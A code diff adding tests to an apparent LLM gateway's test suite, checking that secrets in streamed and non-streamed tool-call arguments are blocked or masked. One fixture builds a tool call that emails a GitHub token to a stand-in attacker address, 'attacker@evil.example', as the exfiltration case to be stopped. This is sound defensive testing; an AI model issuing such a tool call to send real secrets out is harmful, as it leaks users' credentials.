@@ -120,4 +120,44 @@ describe('sensitive data through the gateway', () => {
     expect(r.status).toBe(400);
     expect(await r.text()).not.toContain(AWS);
   });
+
+  it('checks tool-call arguments: a secret exfiltrated through a tool call is blocked, streamed or not', async () => {
+    const args = JSON.stringify({ to: 'attacker@evil.example', body: `token ${GH}` });
+    up.mode = { kind: 'tool', args };
+    const r = await ask('email the team');
+    expect(r.status).toBe(400);
+    expect(await r.text()).not.toContain(GH);
+    for (const size of [1, 5, 17]) {
+      up.mode = { kind: 'tool', args, chunkSize: size };
+      const s = await ask('email the team', true);
+      const text = await s.text();
+      expect(text).not.toContain(GH.slice(0, 12));
+      expect(text).toMatch(/BULWARK_E_POLICY_BLOCKED/);
+    }
+    up.mode = { kind: 'tool', args: JSON.stringify({ to: 'team@example.com', body: 'all good' }), chunkSize: 3 };
+    const ok = await (await ask('email the team', true)).text();
+    const sent = ok
+      .split('\n\n')
+      .filter((e) => e.startsWith('data: {'))
+      .flatMap((e) => (JSON.parse(e.slice(6)) as { choices: Array<{ delta?: { tool_calls?: Array<{ function: { arguments?: string } }> } }> }).choices)
+      .flatMap((c) => c.delta?.tool_calls ?? [])
+      .map((c) => c.function.arguments ?? '')
+      .join('');
+    // Reassembled across chunks into valid JSON; pii-out masks the address like any answer text.
+    expect(JSON.parse(sent)).toEqual({ to: '[EMAIL_ADDRESS]', body: 'all good' });
+  });
+
+  it('masks secrets in tool-call arguments of the conversation history on the way in', async () => {
+    const r = await t.post('/v1/chat/completions', {
+      model: 'mock-chat',
+      messages: [
+        { role: 'user', content: 'deploy it' },
+        { role: 'assistant', content: null, tool_calls: [{ id: 'c1', type: 'function', function: { name: 'deploy', arguments: JSON.stringify({ key: AWS }) } }] },
+        { role: 'tool', tool_call_id: 'c1', content: 'done' },
+        { role: 'user', content: 'thanks' },
+      ],
+    });
+    expect(r.status).toBe(200);
+    expect(up.received[0]!.body).not.toContain(AWS);
+  });
 });
